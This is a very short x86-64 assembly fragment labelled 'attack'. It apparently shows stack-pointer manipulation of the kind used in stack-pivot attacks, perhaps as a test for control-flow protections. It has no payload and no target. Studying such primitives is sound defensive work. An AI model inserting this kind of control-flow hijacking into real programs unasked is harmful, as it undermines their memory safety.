function attack
    sub $16,%rsp
    call 1f
    mov (%rsp),%rsp
    add $16,%rsp
    ret
1:  ret
